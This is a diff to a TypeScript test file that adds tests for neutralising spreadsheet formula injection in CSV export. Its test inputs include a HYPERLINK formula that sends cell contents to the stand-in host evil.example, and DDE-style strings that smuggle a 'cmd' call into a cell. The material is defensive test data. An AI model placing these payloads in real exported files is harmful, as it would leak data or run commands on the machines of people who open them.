@@ -22,7 +22,7 @@ describe('csvField', () => {
     ['crlf\r\n', '"crlf\r\n"'],
     ['', ''],
     [' padded ', ' padded '],
-    ['=1+1', '=1+1'],
+    ['=1+1', "'=1+1"],
     ["it's", "it's"],
     ['semi;colon\ttab', 'semi;colon\ttab'],
     [null, ''],
@@ -33,6 +33,28 @@ describe('csvField', () => {
     [1e21, '1e+21'],
     [-2.5, '-2.5'],
   ] as const)('csvField(%j) = %j', (input, expected) => expect(csvField(input)).toBe(expected));
+});
+
+describe('formula injection', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3+cmd|x', "'-2+3+cmd|x"],
+    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['-2.5', '-2.5'],
+    ['+1e3', '+1e3'],
+    ['a=1', 'a=1'],
+    [' =1', ' =1'],
+  ] as const)('%j is written as text: %j', (input, expected) => expect(csvField(input)).toBe(expected));
+
+  it('is neutralised in every cell of a file, quoted or not, and kept exact when turned off', () => {
+    const rows = [['title', 'n'], ['=1+1', -3]];
+    expect(formatCsv(rows)).toBe("title,n\n'=1+1,-3\n");
+    expect(formatCsv(rows, { quoteStrings: true })).toBe(`"title","n"\n"'=1+1",-3\n`);
+    expect(formatCsv(rows, { quoteStrings: true, neutralizeFormulas: false })).toBe('"title","n"\n"=1+1",-3\n');
+  });
 });
 
 describe('formatCsv', () => {
